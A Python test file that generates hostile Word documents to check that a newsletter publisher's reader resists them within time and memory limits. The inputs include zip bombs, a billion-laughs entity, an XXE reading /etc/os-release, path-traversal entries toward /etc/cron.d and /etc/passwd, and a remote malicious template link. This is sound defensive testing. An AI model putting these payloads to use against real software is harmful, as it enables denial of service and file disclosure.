"""Hostile and broken Word files: each is read, or refused with a sentence, within 5 seconds and 512 MB."""

from __future__ import annotations

import resource
import struct
import zlib
from collections.abc import Callable

import pytest

from publisher.confinement import MEGABYTE, Limits
from publisher.document import Newsletter, plain_text
from publisher.errors import Unreadable
from tests.corpus.docx.pictures import PICT
from tests.docx_files import (
    NORMAL,
    PNG,
    cell,
    level,
    p,
    part,
    picture,
    r,
    row,
    scheme,
    table,
    text_box,
    unzipped,
    word_file,
    zipped,
)
from tests.jailed import read

LIMITS = Limits(seconds=60, memory=512 * MEGABYTE)
MOST_SECONDS = 5.0
"""Of the processor, not by the clock: other tests run beside this one."""

Maker = Callable[[], bytes]
REFUSED: dict[str, tuple[Maker, str]] = {}
READ: dict[str, tuple[Maker, str]] = {}


def refused(word: str) -> Callable[[Maker], Maker]:
    """The file must be refused, with that word in the note."""

    def put(maker: Maker) -> Maker:
        REFUSED[maker.__name__] = (maker, word)
        return maker

    return put


def readable(text: str) -> Callable[[Maker], Maker]:
    """The file must be read, with that text in it."""

    def put(maker: Maker) -> Maker:
        READ[maker.__name__] = (maker, text)
        return maker

    return put


# ---------------------------------------------------------------------------- too much


@refused("过大")
def zip_bomb_by_declared_size() -> bytes:
    return zipped({**unzipped(word_file(p("x"))), "word/media/big.bin": bytes(300 * MEGABYTE)})


@refused("损坏")
def zip_bomb_by_real_size() -> bytes:
    """The directory says one megabyte, the stream holds seventy."""
    data = zipped({**unzipped(word_file(p("x"))), "word/document.xml": b" " * (70 * MEGABYTE)})
    return _declared(data, "word/document.xml", MEGABYTE)


@refused("过大")
def four_thousand_entries_and_one() -> bytes:
    return zipped({**unzipped(word_file(p("x"))), **{f"word/{at}.xml": b"" for at in range(4_000)}})


@refused("过大")
def three_million_tags() -> bytes:
    return word_file(p(inside=r("x") * 600_000))


@refused("过大")
def two_hundred_thousand_paragraphs() -> bytes:
    return word_file("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 200_000)


@refused("单元格超过")
def table_of_a_hundred_thousand_cells() -> bytes:
    return word_file(table(row("<w:tc/>" * 100) * 1_000))


@refused("片段超过")
def a_hundred_thousand_runs() -> bytes:
    return word_file(p(inside="<w:r><w:t>x</w:t></w:r>" * 100_000))


@refused("过大")
def three_hundred_thousand_runs() -> bytes:
    return word_file(p(inside="<w:r><w:t>x</w:t></w:r>" * 300_000))


@readable("x")
def runs_that_all_look_different() -> bytes:
    colors = (f'<w:color w:val="{at % 0xFFFFFF:06X}"/>' for at in range(49_000))
    return word_file(p(inside="".join(f"<w:r><w:rPr>{color}</w:rPr><w:t>x</w:t></w:r>" for color in colors)))


@readable("末段")
def fifteen_thousand_paragraphs() -> bytes:
    return word_file("<w:p><w:r><w:t>正文一段。</w:t></w:r></w:p>" * 14_999 + p("末段"))


@readable("末段")
def line_breaks_without_end() -> bytes:
    return word_file(p("首段", inside="<w:r>" + "<w:br/>" * 700_000 + "</w:r>") + p("末段"))


@refused("损坏")
def a_text_of_sixty_megabytes() -> bytes:
    return word_file(p("字" * 20_000_000))


@readable("正文")
def an_attribute_of_nine_megabytes() -> bytes:
    return word_file(p("正文", style="x" * 9_000_000))


@refused("损坏")
def an_attribute_of_forty_megabytes() -> bytes:
    return word_file(p("正文", style="x" * 40_000_000))


# ---------------------------------------------------------------------------- too deep, too wide


@refused("")
def one_thousand_five_hundred_nested_tables() -> bytes:
    return word_file("<w:tbl><w:tr><w:tc>" * 1_500 + p("x") + "</w:tc></w:tr></w:tbl>" * 1_500)


@refused("")
def thirty_thousand_nested_controls() -> bytes:
    return word_file("<w:sdt><w:sdtContent>" * 30_000 + p("x") + "</w:sdtContent></w:sdt>" * 30_000)


@refused("嵌套")
def forty_nested_tables() -> bytes:
    return word_file("<w:tbl><w:tr><w:tc>" * 40 + p("x") + "</w:tc></w:tr></w:tbl>" * 40)


@refused("嵌套")
def thirty_nested_text_boxes() -> bytes:
    content = p("x")
    for _ in range(30):
        content = p(inside=PICT.format(f"<v:textbox><w:txbxContent>{content}</w:txbxContent></v:textbox>"))
    return word_file(content)


@readable("内")
def two_hundred_nested_controls() -> bytes:
    return word_file("<w:sdt><w:sdtContent>" * 110 + p("内") + "</w:sdtContent></w:sdt>" * 110)


@readable("宽")
def spans_of_two_thousand_million() -> bytes:
    wide = cell(p("宽"), properties='<w:gridSpan w:val="2000000000"/>')
    return word_file(table(row(wide * 50, properties='<w:gridBefore w:val="2000000000"/>') * 50))


@readable("宽")
def a_wide_row_over_many_short_ones() -> bytes:
    return word_file(table(row(cell(p("宽")) * 7_000), row(cell(p("短"))) * 7_000))


@readable("甲")
def styles_based_on_each_other() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{at}"><w:name w:val="s{at}"/><w:basedOn w:val="s{at + 1}"/></w:style>'
        for at in range(50_000)
    )
    return word_file("".join(p("甲", f"s{at}") for at in range(5_000)), NORMAL + styles)


@readable("甲")
def a_numbering_of_thousands() -> bytes:
    schemes = "".join(scheme(at, level(0, "lowerRoman", "%1" * 50, start=3_000)) for at in range(5_000))
    return word_file("".join(p("甲", numbered=(at, 0)) for at in range(5_000)), NORMAL, schemes)


@readable("末段")
def fields_without_end() -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return word_file(p("首段", inside=begin * 45_000) + p("末段"))


@readable("末段")
def an_equation_field_of_a_megabyte() -> bytes:
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    code = "<w:r><w:instrText>" + "EQ \\f(" + "\\f(\\r(" * 150_000 + "</w:instrText></w:r>"
    return word_file(p("首段", inside=char.format("begin") + code + char.format("end")) + p("末段"))


@readable("末段")
def the_word_contents_over_a_long_paragraph() -> bytes:
    return word_file((p("目录") + p(inside="<w:r><w:t>x</w:t></w:r>" * 12)) * 3_500 + p("末段"))


@readable("末段")
def alternatives_in_alternatives() -> bytes:
    inside = "<w:t>x</w:t>"
    for _ in range(60):
        inside = (
            f'<mc:AlternateContent><mc:Choice Requires="wps">{inside}</mc:Choice><mc:Fallback/></mc:AlternateContent>'
        )
    return word_file(p(inside=f"<w:r>{inside}</w:r>" * 200) + p("末段"))


# ---------------------------------------------------------------------------- entities and damage


@refused("DOCTYPE")
def a_billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "哈">' + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return _with_document(f"<!DOCTYPE w [{entities}]><w>&a9;</w>".encode())


@refused("DOCTYPE")
def an_external_entity() -> bytes:
    return _with_document(b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/os-release">]><w>&x;</w>')


@refused("DOCTYPE")
def an_entity_in_utf_16() -> bytes:
    return _with_document(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'.encode("utf-16")
    )


@refused("")
def an_entity_in_utf_7() -> bytes:
    return _with_document(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE w+AD4APA-w/+AD4-')


@refused("DOCTYPE")
def an_entity_in_the_relations() -> bytes:
    return zipped(
        {**unzipped(word_file(p("x"))), "word/_rels/document.xml.rels": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}
    )


@refused("损坏")
def text_that_is_not_utf_8() -> bytes:
    return _with_document(
        part("document", "<w:body><w:p/></w:body>").encode().replace(b"<w:p/>", b"<w:p>\xff\xfe\xc0</w:p>")
    )


@refused("损坏")
def a_wrong_checksum() -> bytes:
    data = bytearray(word_file(p("x")))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/document.xml"))
    data[at + 16 : at + 20] = b"\0\0\0\0"
    return bytes(data)


@refused("没有复制完整")
def a_file_cut_in_half() -> bytes:
    data = word_file(p("x") * 100)
    return data[: len(data) // 2]


@refused("没有正文")
def a_main_part_that_is_not_there() -> bytes:
    return zipped({name: data for name, data in unzipped(word_file(p("x"))).items() if name != "word/document.xml"})


@refused("Word")
def an_encrypted_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000) + "EncryptedPackage".encode("utf-16-le") + bytes(3_000)


@refused("密码")
def an_encrypted_zip() -> bytes:
    data = bytearray(word_file(p("x")))
    for at in range(len(data) - 4):
        if bytes(data[at : at + 4]) in (b"PK\x01\x02", b"PK\x03\x04"):
            data[at + (8 if data[at + 2] == 1 else 6)] |= 1
    return bytes(data)


@refused("没有内容")
def nothing_in_it() -> bytes:
    return word_file(p())


# ---------------------------------------------------------------------------- references to elsewhere


@readable("正文")
def a_template_from_elsewhere() -> bytes:
    """attachedTemplate: Word would fetch it and run its macros."""
    settings = part("settings", '<w:attachedTemplate r:id="rT"/>')
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    target = 'Target="http://example.com/evil.dotm" TargetMode="External"'
    related = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rT" Type="{kind}" {target}/></Relationships>'
    )
    parts: dict[str, bytes | str] = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": related,
        "word/vbaProject.bin": b"x",
    }
    return word_file(p("正文"), parts=parts, relations=[("rSet", "settings", "settings.xml")])


@readable("正文")
def parts_above_the_file() -> bytes:
    relations = [
        ("rUp", "image", "../../../../etc/passwd"),
        ("rAbs", "image", "/etc/passwd"),
        ("rFn", "footnotes", "../../x.xml"),
    ]
    return word_file(p("正文", inside=picture("rUp") + picture("rAbs")), relations=relations)


@readable("正文")
def names_that_climb_out_of_the_zip() -> bytes:
    return zipped(
        {**unzipped(word_file(p("正文"))), "../../../tmp/evil": b"x", "/etc/cron.d/evil": b"x", "C:\\evil": b"x"}
    )


@readable("正文")
def the_main_part_as_everything() -> bytes:
    """Styles, numbering, notes and pictures all point at the main part."""
    kinds = ("footnotes", "endnotes", "comments", "header", "image")
    return word_file(
        p("正文", inside=picture("r4")), relations=[(f"r{at}", kind, "document.xml") for at, kind in enumerate(kinds)]
    )


@readable("正文")
def a_picture_bomb_that_is_cropped() -> bytes:
    """A PNG of 30,000 by 30,000 pixels in a few kilobytes: nobody decodes it here."""
    bomb = PNG[:16] + struct.pack(">II", 30_000, 30_000) + PNG[24:29]
    bomb += struct.pack(">I", zlib.crc32(bomb[12:29])) + PNG[33:]
    shown = picture("rBomb").replace("</pic:blipFill>", '<a:srcRect l="50000"/></pic:blipFill>')
    return word_file(
        p("正文", inside=shown), parts={"word/media/bomb.png": bomb}, relations=[("rBomb", "image", "media/bomb.png")]
    )


@readable("正文")
def one_picture_ten_thousand_times() -> bytes:
    return word_file(p("正文", inside=picture() * 10_000))


@readable("正文")
def many_text_boxes() -> bytes:
    return word_file(p("正文", inside=text_box(p("框")) * 5_000))


def _with_document(xml: bytes) -> bytes:
    return zipped({**unzipped(word_file(p("x"))), "word/document.xml": xml})


def _declared(data: bytes, name: str, size: int) -> bytes:
    """The zip with another size of that entry in its directory."""
    changed = bytearray(data)
    at = changed.rindex(b"PK\x01\x02", 0, changed.rindex(name.encode()))
    changed[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(changed)


# ---------------------------------------------------------------------------- the tests


def read_within_limits(data: bytes) -> Newsletter:
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    try:
        return read({"稿.docx": data}, LIMITS)
    finally:
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < MOST_SECONDS


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_is_refused_in_time(name: str) -> None:
    make, word = REFUSED[name]
    with pytest.raises(Unreadable) as caught:
        read_within_limits(make())
    assert word in caught.value.note


@pytest.mark.parametrize("name", sorted(READ))
def test_is_read_in_time(name: str) -> None:
    make, text = READ[name]
    newsletter = read_within_limits(make())
    blocks = [plain_text(block) for article in newsletter.articles for block in article.blocks]
    assert text in "\n".join([*(article.title for article in newsletter.articles), *blocks])
